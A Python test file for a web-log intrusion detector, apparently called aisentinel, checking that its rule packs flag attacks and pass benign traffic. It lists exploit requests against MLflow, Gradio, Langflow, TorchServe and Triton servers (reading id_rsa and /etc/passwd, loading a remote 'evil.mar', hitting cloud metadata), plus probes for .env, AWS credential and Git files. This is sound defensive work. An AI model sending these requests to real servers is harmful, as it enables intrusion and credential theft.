"""Shipped rule packs, driven by the data: every rule's own test lines match it, every
exclusion's test requests are excused only when served, and benign traffic matches no
rule. Adding a rule, an exclusion or a test line needs no code here."""

from __future__ import annotations

import pytest

from aisentinel.clock import FakeClock
from aisentinel.detectors.rules import RulesConfig, RulesDetector
from aisentinel.events import HttpRequest, Severity
from aisentinel.parsers import ParserContext, build_parser
from aisentinel.rules import load_rules
from aisentinel.rules.matcher import Exclusions, Matcher, explain_rule
from aisentinel.rules.model import RuleTest
from aisentinel.rules.packtest import rule_test_line

RULESET = load_rules(None)
MATCHER = Matcher(RULESET.rules, exclusions=RULESET.exclusions)
PLAIN = Matcher(RULESET.rules)
EXCLUSIONS = Exclusions(RULESET.exclusions, RULESET.rules)
PARSER = build_parser("nginx", ParserContext(source="test", clock=FakeClock(1_735_689_600.0)))

CASES = [
    pytest.param(loaded.rule.id, i, rule_test_line(test, i), id=f"{loaded.rule.id}-{i}")
    for loaded in RULESET.loaded
    for i, test in enumerate(loaded.rule.tests)
]

AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36"
BENIGN = [
    ("GET / HTTP/1.1", 200, AGENT),
    ("GET /index.html HTTP/1.1", 200, AGENT),
    ("GET /static/app.9f3c.js HTTP/2.0", 200, AGENT),
    ("GET /favicon.ico HTTP/1.1", 404, AGENT),
    (
        "GET /robots.txt HTTP/1.1",
        200,
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    ),
    ("POST /v1/chat/completions HTTP/1.1", 200, "OpenAI/Python 1.35.3"),
    ("GET /v1/models HTTP/1.1", 200, "OpenAI/Python 1.35.3"),
    ("POST /api/chat HTTP/1.1", 200, "ollama-python/0.3.0"),
    ("POST /api/generate HTTP/1.1", 200, "curl/8.5.0"),
    ("GET /api/tags HTTP/1.1", 200, "python-requests/2.31.0"),
    ("GET /api/version HTTP/1.1", 200, "Go-http-client/1.1"),
    ("POST /api/pull HTTP/1.1", 200, "ollama/0.3.0"),
    ("HEAD /api/blobs/sha256:" + "a" * 64 + " HTTP/1.1", 200, "ollama/0.3.0"),
    ("POST /api/blobs/sha256-" + "0" * 64 + " HTTP/1.1", 201, "ollama/0.3.0"),
    ("GET /api/v1/chats/?page=1 HTTP/1.1", 200, AGENT),
    ("GET /api/v1/users/user/settings HTTP/1.1", 200, AGENT),
    ("GET /ws/socket.io/?EIO=4&transport=polling&t=Pabc HTTP/1.1", 200, AGENT),
    ("GET /search?q=how+to+select+a+union+representative HTTP/1.1", 200, AGENT),
    ("GET /search?q=sleep+better+tips&page=2 HTTP/1.1", 200, AGENT),
    ("GET /search?q=O%27Reilly+books HTTP/1.1", 200, AGENT),
    ("GET /docs/javascript-guide/ HTTP/1.1", 200, AGENT),
    ("GET /blog/2024/05/ollama-on-a-gpu-box/ HTTP/1.1", 200, AGENT),
    ("GET /file=/tmp/gradio/3a9f/image.png HTTP/1.1", 200, AGENT),
    ("GET /view?filename=ComfyUI_00001_.png&subfolder=&type=output HTTP/1.1", 200, AGENT),
    ("POST /prompt HTTP/1.1", 200, AGENT),
    ("GET /api/2.0/mlflow/experiments/search?max_results=20 HTTP/1.1", 200, AGENT),
    ("GET /ajax-api/2.0/mlflow/runs/get?run_id=abc123 HTTP/1.1", 200, AGENT),
    ("GET /api/kernels HTTP/1.1", 200, AGENT),
    ("GET /lab/tree/notebook.ipynb HTTP/1.1", 200, AGENT),
    ("GET /wp-login.php HTTP/1.1", 200, AGENT),
    ("GET /wp-admin/ HTTP/1.1", 302, AGENT),
    ("GET /wp-content/uploads/2024/01/photo.jpg HTTP/1.1", 200, AGENT),
    ("GET /author/jane/ HTTP/1.1", 200, AGENT),
    ("GET /css/site.css?v=3 HTTP/1.1", 304, AGENT),
    ("GET /metrics HTTP/1.1", 200, "Prometheus/2.51.0"),
    ("GET /health HTTP/1.1", 200, "kube-probe/1.29"),
    ("OPTIONS /v1/chat/completions HTTP/1.1", 204, AGENT),
    ("GET /api/search?filter=name%3Dalice%26age%3E30 HTTP/1.1", 200, AGENT),
    ("GET /download/report-2024.pdf HTTP/1.1", 200, AGENT),
    ("GET /api/v1/chats/search?text=select%20the%20union%20docs&page=1 HTTP/1.1", 200, AGENT),
    ("GET /api/v1/knowledge/search?query=onboarding&view_option=&page=1 HTTP/1.1", 200, AGENT),
    # MLflow artifact downloads, Gradio's cached files (the file-read rules' neighbours)
    ("GET /model-versions/get-artifact?path=model/MLmodel&name=m&version=1 HTTP/1.1", 200, AGENT),
    (
        "GET /model-versions/get-artifact?path=requirements.txt&name=m&version=3 HTTP/1.1",
        200,
        AGENT,
    ),
    ("GET /get-artifact?path=metrics.json&run_uuid=0a1b2c3d HTTP/1.1", 200, AGENT),
    ("GET /get-artifact?path=model%2Fpython_env.yaml&run_uuid=0a1b2c3d HTTP/1.1", 200, AGENT),
    ("GET /get-artifact?path=eval/credentials_report.csv&run_uuid=0a1b HTTP/1.1", 200, AGENT),
    ("GET /gradio_api/file=/tmp/gradio/5e0c2f/audio.wav HTTP/1.1", 200, AGENT),
    ("GET /file=/tmp/gradio/5e0c2f/passwords-chart.png HTTP/1.1", 200, AGENT),
    # Langflow's UI, TorchServe and Triton inference and status
    ("GET /api/v1/flows/?remove_example_flows=false&get_all=true HTTP/1.1", 200, AGENT),
    ("POST /api/v1/build/3c1e2d7a-9b1f-4c56-8c2e-2a4a0a1f0d3b/flow HTTP/1.1", 200, AGENT),
    ("POST /api/v1/validate/prompt HTTP/1.1", 200, AGENT),
    ("GET /api/v1/all?force_refresh=true HTTP/1.1", 200, AGENT),
    ("POST /predictions/resnet-18 HTTP/1.1", 200, "python-requests/2.31.0"),
    ("GET /models HTTP/1.1", 200, "curl/8.5.0"),
    ("POST /models?url=squeezenet1_1.mar&initial_workers=1 HTTP/1.1", 200, "curl/8.5.0"),
    ("POST /v2/models/resnet50/infer HTTP/1.1", 200, "python-requests/2.31.0"),
    ("POST /v2/models/resnet50/versions/1/infer HTTP/1.1", 200, "python-requests/2.31.0"),
    ("GET /v2/health/ready HTTP/1.1", 200, "kube-probe/1.29"),
    # neighbours of the secret-file, debug and exploit-endpoint rules
    ("GET /actuator/health HTTP/1.1", 200, "kube-probe/1.29"),
    ("GET /actuator/prometheus HTTP/1.1", 200, "Prometheus/2.51.0"),
    ("GET /actuator/info HTTP/1.1", 200, AGENT),
    ("GET /v2/_catalog HTTP/1.1", 200, "crane/0.19.1"),
    ("GET /v2/_catalog HTTP/1.1", 401, "skopeo/1.13.3"),
    ("GET /static/js/env.js HTTP/1.1", 200, AGENT),
    ("GET /.well-known/openid-configuration HTTP/1.1", 200, AGENT),
    ("GET /.github/workflows/ci.yml HTTP/1.1", 404, AGENT),
    ("GET /docs/.envrc-howto HTTP/1.1", 200, AGENT),
    ("GET /index.php HTTP/1.1", 200, AGENT),
    ("GET /docs/containers/jsonschema HTTP/1.1", 200, AGENT),
    ("GET /api/v1/containers/json HTTP/1.1", 200, AGENT),
    ("GET /search?q=%24%7BWEBLOC%7D+template HTTP/1.1", 200, AGENT),
    ("GET /cfg?tpl=%24%7Bserver.port%3A%24%7BPORT%3A8080%7D%7D HTTP/1.1", 200, AGENT),
    ("GET /run?cmd=%24%7BHOME%7D%24%7BPATH%7D HTTP/1.1", 200, AGENT),
    ("GET /news/nmapper-release HTTP/1.1", 200, "Mozilla/5.0 (X11; Linux x86_64) Snmapd/1.0"),
    # redirects, callbacks and links in a parameter (the remote-file-inclusion rules)
    ("GET /login?redirect=https://example.com/page HTTP/1.1", 302, AGENT),
    ("GET /out?url=https%3A%2F%2Fexample.org%2Fdocs%2Findex.html%3Fref%3Dnav HTTP/1.1", 302, AGENT),
    ("GET /authorize?redirect_uri=https://app.example.com/cb&state=x HTTP/1.1", 302, AGENT),
    ("GET /auth/callback?next=/dashboard&code=4%2F0Ab HTTP/1.1", 302, AGENT),
    ("GET /share?u=https://example.com/a?b=1&t=Title HTTP/1.1", 200, AGENT),
    ("GET /proxy?img=https://cdn.example.com/cat.gif HTTP/1.1", 200, AGENT),
    ("GET /api/v1/retrieval/process/web?url=https://example.com/notes.md HTTP/1.1", 200, AGENT),
    ("GET /render?src=data:image/png;base64,iVBORw0KGgo= HTTP/1.1", 200, AGENT),
    # searches and sorts near the SQL injection and XSS rules
    ("GET /shop?q=order+by+price&sort=order+by+10 HTTP/1.1", 200, AGENT),
    ("GET /search?q=and+then&page=2 HTTP/1.1", 200, AGENT),
    ("GET /search?q=1+and+then+2+or+3 HTTP/1.1", 200, AGENT),
    ("GET /search?q=ascii+substr+tutorial HTTP/1.1", 200, AGENT),
    ("GET /search?q=select+database+(mysql) HTTP/1.1", 200, AGENT),
    ("GET /api/v1/prompts/?q=prompt+(draft) HTTP/1.1", 200, AGENT),
    ("GET /search?q=css+%40import+vs+link HTTP/1.1", 200, AGENT),
]

EXCLUSION_CASES = [
    pytest.param(x.id, i, rule_test_line(RuleTest(**t.model_dump()), i), id=f"{x.id}-{i}")
    for x in RULESET.exclusions
    for i, t in enumerate(x.tests)
]


def _benign_line(request: str, status: int, agent: str) -> str:
    return f'198.51.100.20 - - [01/Jan/2025:10:00:00 +0000] "{request}" {status} 512 "-" "{agent}"'


def test_every_rule_has_a_test_line() -> None:
    """Each shipped rule carries at least one test line."""
    missing = [r.id for r in RULESET.rules if not r.tests]
    assert missing == []


@pytest.mark.parametrize(("rule_id", "index", "line"), CASES)
def test_rule_matches_its_test_line(rule_id: str, index: int, line: str) -> None:
    """A rule's own test line parses and both the automaton and the direct check match it."""
    event = PARSER.parse(line)
    assert isinstance(event, HttpRequest), line
    rules, _ = MATCHER.match(event)
    assert rule_id in [r.id for r in rules]
    rule = next(r for r in RULESET.rules if r.id == rule_id)
    assert explain_rule(rule, event)


def test_every_exclusion_has_a_test_request() -> None:
    """Each shipped exclusion carries at least one test request."""
    assert RULESET.exclusions
    assert [x.id for x in RULESET.exclusions if not x.tests] == []


@pytest.mark.parametrize(("exclusion_id", "index", "line"), EXCLUSION_CASES)
def test_exclusion_excuses_its_test_request_only_when_served(
    exclusion_id: str, index: int, line: str
) -> None:
    """An exclusion's test request matches a rule it covers without it and none with it;
    the same request answered 401 or 404 (no session, no such application) matches again."""
    del index
    exclusion = next(x for x in RULESET.exclusions if x.id == exclusion_id)
    event = PARSER.parse(line)
    assert isinstance(event, HttpRequest), line
    covered = [r.id for r in PLAIN.match(event)[0] if exclusion.covers(r)]
    assert covered, "the exclusion's test request matches no rule it covers"
    assert [r.id for r in MATCHER.match(event)[0] if exclusion.covers(r)] == []
    for status in (401, 404):
        refused = event._replace(status=status)
        assert [r.id for r in MATCHER.match(refused)[0] if exclusion.covers(r)] == covered


@pytest.mark.parametrize(("request_line", "status", "agent"), BENIGN)
def test_benign_request_matches_no_rule(request_line: str, status: int, agent: str) -> None:
    """Ordinary browser, crawler, API and AI-client requests match no shipped rule."""
    event = PARSER.parse(_benign_line(request_line, status, agent))
    assert isinstance(event, HttpRequest)
    rules, _ = MATCHER.match(event)
    assert [r.id for r in rules] == []


AI_EXPLOITS = [
    # CVE-2023-1177 (MLflow): the public exploit and Tsunami's detector
    ("GET /model-versions/get-artifact?path=id_rsa&name=8f3a1c&version=1", 200, "mlflow-file-read"),
    ("GET /model-versions/get-artifact?path=etc/passwd&name=T1&version=1", 200, "mlflow-file-read"),
    # CVE-2024-1561 (Gradio): the file the component server copied into the cache
    (
        "GET /file=/tmp/gradio/916ba9fd82d7e3a7d6d6ad3e7d1fa5b6f0a7d2c9/passwd",
        200,
        "gradio-file-read",
    ),
    ("POST /api/v1/validate/code", 200, "langflow-validate-code"),  # CVE-2025-3248
    ("POST /api/v1/validate/code", 404, "langflow-validate-code"),
    (
        "POST /models?url=http://198.51.100.200:8888/evil.mar&batch_size=1",
        200,
        "torchserve-register-url",
    ),
    (
        "POST /models?url=http://169.254.169.254/latest/meta-data/",
        500,
        "torchserve-register-metadata torchserve-register-url",
    ),
    ("POST /workflows?url=http://198.51.100.200:8888/wf.war", 200, "torchserve-register-url"),
    ("POST /v2/repository/models/pwn/load", 200, "triton-model-control"),
    ("POST /v2/repository/models/pwn/unload", 200, "triton-model-control"),
]


PUBLIC_PROBES = [
    # one- or two-request probes of public attack lists (CrowdSec sec-lists, botnets)
    ("GET /.env", 200, "env-file-served"),
    ("GET /.git/config", 200, "secret-file-served"),
    ("GET /.aws/credentials", 200, "secret-file-served"),
    ("GET /wp-config.php.bak", 200, "secret-file-served"),
    ("GET /actuator/env", 200, "secret-file-served"),
    ("GET /actuator/heapdump", 200, "secret-file-served"),
    ("POST /boaform/admin/formLogin", 404, "iot-device-exploits"),
    ("POST /HNAP1/", 404, "iot-device-exploits"),
    ("GET /cgi-bin/luci;stok=/locale", 404, "iot-device-exploits"),
    ("GET /?XDEBUG_SESSION_START=phpstorm", 200, "php-debug-probe"),
    ("GET /_profiler/phpinfo", 404, "php-debug-probe"),
    ("GET /containers/json", 404, "docker-api-probe"),
    ("GET /v2/_catalog", 404, "docker-registry-catalog-probe"),
    ("POST /api/jsonws/invoke", 404, "liferay-jsonws-probe"),
    ("GET /nacos/v1/auth/users?pageNo=1&pageSize=9", 404, "nacos-user-api-probe"),
]


@pytest.mark.parametrize(("target", "status", "rule_id"), PUBLIC_PROBES)
def test_public_probes_match_their_rule(target: str, status: int, rule_id: str) -> None:
    """Unambiguous single probes (secret files, router and debug endpoints) match the
    rule that names them, alone."""
    event = PARSER.parse(_benign_line(f"{target} HTTP/1.1", status, AGENT))
    assert isinstance(event, HttpRequest)
    assert [r.id for r in MATCHER.match(event)[0]] == [rule_id]


def test_a_served_secret_file_is_high_and_says_leaked() -> None:
    """A secret file served is HIGH and says the secrets leaked; one answered 404 is no rule's."""
    rules = {loaded.rule.id: loaded.rule for loaded in RULESET.loaded}
    for rule_id in ("secret-file-served", "env-file-served"):
        assert rules[rule_id].severity is Severity.HIGH
        assert "leaked" in rules[rule_id].description
    for target in ("GET /.env", "GET /.git/HEAD", "GET /includes/config.php~"):
        event = PARSER.parse(_benign_line(f"{target} HTTP/1.1", 404, AGENT))
        assert isinstance(event, HttpRequest)
        assert MATCHER.match(event)[0] == []


@pytest.mark.parametrize(
    ("target", "rule_id"),
    [
        ("GET /.env.example", "env-template-served"),
        ("GET /backend/.env.sample", "env-template-served"),
        ("GET /.env.template", "env-template-served"),
        ("GET /.env.dist", "env-template-served"),
        ("GET /.ENV.Example", "env-template-served"),
        ("GET /.env", "env-file-served"),
        ("GET /.env.production", "env-file-served"),
        ("GET /.env.local", "env-file-served"),
        ("GET /api/.env.staging", "env-file-served"),
        ("GET /.env.example.bak", "env-file-served"),
        ("GET /.env.samples", "env-file-served"),
        ("GET /.env.exampl", "env-file-served"),
        ("GET /.env.", "env-file-served"),
        ("GET /.git/.env.example", "secret-file-served env-template-served"),
        ("GET /.git/.env", "env-file-served secret-file-served"),
    ],
)
def test_a_served_env_template_is_low_and_a_real_env_stays_high(target: str, rule_id: str) -> None:
    """A served .env.example/.sample/.template/.dist is the LOW template rule alone (no
    "rotate" advice); .env, .env.production, .env.local and near-misses stay HIGH, and
    so does any file inside a Git folder, a template too."""
    rules = {loaded.rule.id: loaded.rule for loaded in RULESET.loaded}
    event = PARSER.parse(_benign_line(f"{target} HTTP/1.1", 200, AGENT))
    assert isinstance(event, HttpRequest)
    assert [r.id for r in MATCHER.match(event)[0]] == rule_id.split()
    template = rules["env-template-served"]
    assert template.severity is Severity.LOW
    assert "rotate" not in template.description
    assert "no real values" in template.description


@pytest.mark.parametrize(("target", "status", "rule_id"), AI_EXPLOITS)
def test_public_ai_server_exploits_match_their_rule(target: str, status: int, rule_id: str) -> None:
    """The requests of public exploits of AI servers (MLflow, Gradio, Langflow, TorchServe,
    Triton) match the rule that names them, alone."""
    event = PARSER.parse(_benign_line(f"{target} HTTP/1.1", status, "python-requests/2.31.0"))
    assert isinstance(event, HttpRequest)
    assert sorted(r.id for r in MATCHER.match(event)[0]) == rule_id.split()


def test_empty_request_line_is_not_malformed() -> None:
    """A browser's unused pre-connection ("" 400) matches no rule."""
    event = PARSER.parse('198.51.100.2 - - [01/Jan/2025:10:00:00 +0000] "" 400 0 "-" "-"')
    assert isinstance(event, HttpRequest)
    assert MATCHER.match(event)[0] == []


def test_matcher_agrees_with_direct_check_on_every_line() -> None:
    """The automaton matcher gives exactly the rules the direct per-rule check gives
    (exclusions applied to both)."""
    lines = [c.values[2] for c in (*CASES, *EXCLUSION_CASES)]
    lines += [_benign_line(*b) for b in BENIGN]
    for line in lines:
        event = PARSER.parse(str(line))
        assert isinstance(event, HttpRequest)
        fast = {r.id for r in MATCHER.match(event)[0]}
        slow = {
            r.id
            for r in RULESET.rules
            if explain_rule(r, event) and EXCLUSIONS.excused_by(r, event) is None
        }
        assert fast == slow, line


def test_threshold_one_rules_make_a_finding_on_their_test_line() -> None:
    """Through the detector, a one-request rule's test line gives a finding naming that rule."""
    for loaded in RULESET.loaded:
        rule = loaded.rule
        if rule.threshold != 1:
            continue
        detector = RulesDetector(RulesConfig(rules_dir=None))
        event = PARSER.parse(rule_test_line(rule.tests[0]))
        assert isinstance(event, HttpRequest)
        finding = detector.observe(event)
        assert finding is not None, rule.id
        assert any(e.startswith("rule=") for e in finding.evidence)


@pytest.mark.parametrize(
    "body",
    [
        '{"messages":[{"role":"user","content":"var f = function() { return 1; };"}]}',
        '{"prompt":"fix this: $(document).ready(function() { init(); });"}',
        '{"code":"setTimeout(function () { done(); }, 10)"}',
    ],
)
def test_javascript_in_a_body_is_no_shellshock(body: str) -> None:
    """A function literal inside a chat body (JavaScript, not an environment value that
    starts with "() {") matches no shipped rule."""
    event = PARSER.parse(_benign_line("POST /v1/chat/completions HTTP/1.1", 200, AGENT))
    assert isinstance(event, HttpRequest)
    rules, _ = MATCHER.match(event._replace(body=body))
    assert [r.id for r in rules] == []


@pytest.mark.parametrize(
    ("request_line", "referer"),
    [
        ("GET /?q=()%20%7B%20echo%20hi%3B%20%7D HTTP/1.1", "-"),
        ("GET /search?callback=(){} HTTP/1.1", "-"),
        ("GET / HTTP/1.1", "https://code.example.org/?code=(){x}"),
    ],
)
def test_a_function_literal_in_a_query_is_no_shellshock(request_line: str, referer: str) -> None:
    """A function literal in a query value or referer without the ";" that follows every
    Shellshock payload's body (a prefilled prompt, a JSONP callback) matches no rule."""
    line = _benign_line(request_line, 200, AGENT).replace('"-" "', f'"{referer}" "', 1)
    event = PARSER.parse(line)
    assert isinstance(event, HttpRequest)
    assert "shellshock" not in [r.id for r in MATCHER.match(event)[0]]


@pytest.mark.parametrize(
    "agent",
    [
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "masscan/1.3",
        "NetcraftSurveyAgent/1.0",
        "Mozilla/5.0 (compatible; Odin; https://docs.getodin.com/)",
    ],
)
def test_survey_scanners_are_survey_only(agent: str) -> None:
    """masscan's, Netcraft's and Odin's real user agents are survey scanners (MEDIUM),
    not attack tools (HIGH)."""
    event = PARSER.parse(_benign_line("GET / HTTP/1.1", 200, agent))
    assert isinstance(event, HttpRequest)
    assert [r.id for r in MATCHER.match(event)[0]] == ["scanner-ua-survey"]
